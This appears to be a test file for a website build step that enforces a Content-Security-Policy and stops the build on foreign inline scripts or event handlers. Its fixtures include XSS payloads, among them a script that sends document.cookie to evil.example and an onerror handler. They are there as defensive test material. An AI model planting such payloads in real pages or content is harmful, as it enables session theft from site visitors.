// The Content-Security-Policy blesses only the inline scripts the build wrote itself (the compiled
// scripts of the site's components); any other inline script or event handler in a page stops the
// build, naming the page and the document and field its code came from.
import { mkdtempSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterEach, describe, expect, it } from 'vitest';
import type { Plugin } from 'vite';
import { findElements } from '../../../src/build/html.ts';
import csp from '../../../src/integrations/csp';
import { buildReportWriter, type BuildReport } from '../../../src/data/build-report';
import { buildScope } from '../../../src/data/build-scope';
import { getSiteContent, type Article, type SiteContent } from '../../../src/data/content';
import { articlePath } from '../../../src/lib/routes';

const QUICK_EXIT = 'var e=`[data-quick-exit]`;document.querySelector(e);';
const page = (body: string) => `<!DOCTYPE html><html lang="sv"><head><meta charset="utf-8"><title>Sida</title></head><body>${body}</body></html>`;

let dir: string | undefined;
let loaded: SiteContent | undefined;
afterEach(() => {
  if (dir) rmSync(dir, { recursive: true, force: true });
  // A test that changed the build's content or report gives the next one the build's own back.
  if (loaded) buildScope().content = Promise.resolve(loaded);
  buildScope().report = null;
});

/** The build's content with the first Swedish article changed by `change`; returns that article. */
async function withArticle(change: (article: Article) => Article): Promise<Article> {
  loaded = await getSiteContent();
  const sv = loaded.locales.sv;
  const article = change(sv.articles[0]!);
  buildScope().content = Promise.resolve({ ...loaded, locales: { ...loaded.locales, sv: { ...sv, articles: [article, ...sv.articles.slice(1)] } } });
  return article;
}

/** The file an article's page is written to. */
const pageOf = (article: Article) => `${articlePath(article.slug).slice(1)}index.html`;

/** Runs the integration as a build would: the content loaded for the pages, the client bundle with the component scripts, then the pages. */
async function build(pages: Record<string, string>, chunks: Record<string, { facadeModuleId: string | null; code: string }> = {}, components: Record<string, string> = {}) {
  dir = mkdtempSync(join(tmpdir(), 'csp-'));
  for (const [path, html] of Object.entries(pages)) {
    mkdirSync(join(dir, path, '..'), { recursive: true });
    writeFileSync(join(dir, path), html);
  }
  for (const [path, source] of Object.entries(components)) {
    mkdirSync(join(dir, 'src', path, '..'), { recursive: true });
    writeFileSync(join(dir, 'src', path), source);
  }
  await getSiteContent();
  const integration = csp();
  const plugins: Plugin[] = [];
  const hooks = integration.hooks as Record<string, (options: Record<string, unknown>) => Promise<void> | void>;
  await hooks['astro:config:setup']!({ config: { srcDir: pathToFileURL(`${dir}/src/`) }, updateConfig: (config: { vite: { plugins: Plugin[] } }) => plugins.push(...config.vite.plugins) });
  const bundle = Object.fromEntries(Object.entries(chunks).map(([fileName, chunk]) => [fileName, { type: 'chunk', fileName, ...chunk }]));
  for (const plugin of plugins) {
    const hook = plugin.generateBundle as { handler: (options: unknown, bundle: unknown) => void } | undefined;
    hook?.handler.call({}, {}, bundle);
  }
  const logger = { info: () => {}, warn: () => {}, error: () => {} };
  await hooks['astro:build:done']!({ dir: pathToFileURL(`${dir}/`), logger });
  return (path: string) => readFileSync(join(dir!, path), 'utf8');
}

const quickExitChunk = { '_astro/QuickExit.js': { facadeModuleId: '/repo/src/components/safety/QuickExit.astro?astro&type=script&index=0&lang.ts', code: `${QUICK_EXIT}\n` } };

describe('the Content-Security-Policy', () => {
  it('hashes the component scripts the build inlined, and the build passes', async () => {
    const read = await build({ 'index.html': page(`<script type="module">${QUICK_EXIT}</script>`) }, quickExitChunk);
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(read('index.html'))?.[1];
    expect(meta).toMatch(/script-src 'self' 'sha256-[A-Za-z0-9+/=]+'/);
    expect(meta).not.toContain('unsafe-inline');
  });

  it('stops the build when a page carries an inline script the build did not write, naming the page', async () => {
    await expect(
      build(
        { 'index.html': page(`<script type="module">${QUICK_EXIT}</script>`), 'artiklar/x/index.html': page(`<p>Text</p><script>fetch("https://evil.example/?"+document.cookie)</script>`) },
        quickExitChunk,
      ),
    ).rejects.toThrow(/artiklar\/x\/index\.html: an inline script the build did not write: "fetch/);
  });

  it('does not take a script for the build’s own because it sits in a component folder of another project or is not a component script', async () => {
    const chunks = {
      'a.js': { facadeModuleId: '/repo/node_modules/x/src/y.ts', code: 'alert(1)' },
      'b.js': { facadeModuleId: null, code: 'alert(2)' },
    };
    await expect(build({ 'index.html': page('<script>alert(1)</script>') }, chunks)).rejects.toThrow(/did not write/);
    await expect(build({ 'index.html': page('<script>alert(2)</script>') }, chunks)).rejects.toThrow(/did not write/);
  });

  it('hashes the site’s own <script is:inline> blocks, copied into pages as written', async () => {
    const component = '---\n---\n<p>Hej</p>\n<script is:inline>\n  document.documentElement.dataset.js = "1";\n</script>\n';
    const read = await build({ 'index.html': page('<script>\n  document.documentElement.dataset.js = "1";\n</script>') }, {}, { 'components/Js.astro': component });
    expect(read('index.html')).toMatch(/script-src 'self' 'sha256-/);
    const perPage = '<script is:inline define:vars={{ name }}>console.log(name)</script>';
    await expect(build({ 'index.html': page('<script>console.log(name)</script>') }, {}, { 'components/Vars.astro': perPage })).rejects.toThrow(/did not write/);
  });

  it('treats every executable type as a script: classic, module, importmap, text/javascript', async () => {
    for (const type of ['', ' type="module"', ' type="importmap"', ' type="text/javascript"', " type='speculationrules'"]) {
      await expect(build({ 'index.html': page(`<script${type}>{"imports":{}}</script>`) })).rejects.toThrow(/did not write/);
    }
  });

  it('keeps JSON data blocks out of script-src, and refuses one that is not JSON', async () => {
    const read = await build({ 'index.html': page('<script type="application/ld+json">{"@type":"Article"}</script>') });
    expect(read('index.html')).not.toMatch(/script-src[^;]*sha256/);
    await expect(build({ 'index.html': page('<script type="application/ld+json">alert(1)</script>') })).rejects.toThrow(/not JSON/);
  });

  it('passes a page whose text and attribute values only look like scripts (a title pasted from a web page), and hashes nothing for them', async () => {
    const pasted = '<script>alert(1)</script>';
    const html = page(
      `<h1>&lt;script&gt;alert(1)&lt;/script&gt;</h1><data value="${pasted}" data-pagefind-meta="keywords[value]"></data><img alt="${pasted}" src="/x.png"><textarea>${pasted}</textarea>`,
    ).replace('<title>Sida</title>', '<title>&lt;script&gt;alert(1)&lt;/script&gt;</title><meta name="description" content="<script>alert(1)</script>">');
    const read = await build({ 'artiklar/x/index.html': html });
    expect(read('artiklar/x/index.html')).not.toMatch(/script-src[^;]*sha256/);
    const [title] = findElements(read('artiklar/x/index.html'), (tag) => tag.name === 'title');
    expect(title!.text).toBe(pasted);
  });

  it('hashes a script the build wrote itself in a page that also shows such text, and the build passes', async () => {
    const read = await build({ 'index.html': page(`<p title="<script>alert(1)</script>">Text</p><script type="module">${QUICK_EXIT}</script>`) }, quickExitChunk);
    expect(read('index.html').match(/'sha256-/g)).toHaveLength(1);
  });

  it('stops the build on an inline script that came from a document, naming the page, the document and the field, also in the build report', async () => {
    const article = await withArticle((first) => ({ ...first, summary: `Läs mer. <script>fetch("https://evil.example/?"+document.cookie)</script>` }));
    const reportFile = join(tmpdir(), `csp-report-${process.pid}.json`);
    buildScope().report = buildReportWriter(reportFile);
    // A page that wrote the summary out unescaped, as a template mistake would.
    const written = page(`<h1>${article.title}</h1><p>${article.summary}</p>`);
    const failure = build({ [pageOf(article)]: written }).then(
      () => null,
      (error: unknown) => error as Error & { documents: unknown },
    );
    const error = await failure;
    expect(error?.message).toContain(
      `${pageOf(article)}: an inline script the build did not write: "fetch(\\"https://evil.example/?\\"+document.cookie)" (from document "${article._id}", field summary)`,
    );
    expect(error?.documents).toEqual([{ documentId: article._id, field: 'summary' }]);
    const report = JSON.parse(readFileSync(reportFile, 'utf8')) as BuildReport;
    rmSync(reportFile);
    expect('error' in report && report.error.documents).toEqual([{ documentId: article._id, field: 'summary' }]);
  });

  it('names the field inside an article’s body that holds a script shown on another page, such as the start page’s list of articles', async () => {
    const article = await withArticle((first) => ({
      ...first,
      body: [{ _type: 'block', _key: 'b1', style: 'normal', markDefs: [], children: [{ _type: 'span', _key: 's1', marks: [], text: 'Se <script>alert("kropp")</script>' }] }] as Article['body'],
    }));
    await expect(build({ 'index.html': page('<ul><li>Se <script>alert("kropp")</script></li></ul>') })).rejects.toThrow(
      `index.html: an inline script the build did not write: "alert(\\"kropp\\")" (from document "${article._id}", field body[_key=="b1"].children[_key=="s1"].text)`,
    );
  });

  it('stops the build on an event handler attribute, which the policy never runs, naming the document it came from', async () => {
    const article = await withArticle((first) => ({ ...first, title: 'Sömn <img src="x" onerror="alert(2)">' }));
    await expect(build({ [pageOf(article)]: page(`<h1>${article.title}</h1>`) })).rejects.toThrow(
      `an event handler attribute (onerror on <img>), which the build never writes: "alert(2)" (from document "${article._id}", field title)`,
    );
    await expect(build({ 'index.html': page('<button onclick="history.back()">Tillbaka</button>') })).rejects.toThrow(/index\.html: an event handler attribute \(onclick on <button>\)/);
  });

  it('allows scripts loaded from the site itself without hashing them', async () => {
    const read = await build({ 'index.html': page('<script type="module" src="/_astro/chat-loader.js"></script>') });
    expect(read('index.html')).toMatch(/script-src 'self'(;| 'wasm)/);
  });
});
